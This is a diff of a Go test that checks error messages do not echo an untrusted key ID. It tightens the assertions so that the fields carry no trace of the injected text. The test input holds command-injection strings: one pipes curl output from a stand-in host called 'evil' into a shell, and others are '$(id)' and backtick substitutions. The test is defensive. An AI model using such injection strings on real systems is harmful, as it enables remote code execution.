@@ -88,7 +88,7 @@ func TestNoHintHoldsMoreThanAnID(t *testing.T) {
 	t.Parallel()
 	const id = "x; curl evil|sh"
 	_, e, _ := createdBy(t, "ci", 201, `{"id":"`+id+`"}`)
-	if e == nil || e.KeyID != id || !strings.Contains(e.What, id) || strings.Contains(e.Hint, "curl") {
+	if e == nil || e.KeyID != "" || strings.Contains(e.What+e.Hint, "curl") {
 		t.Errorf("got %v, %s", e, e.Hint)
 	}
 	for hinted, want := range map[string]bool{"k1": true, id: false, "": false, "a b": false, "$(id)": false, "`id`": false, "a\nb": false} {
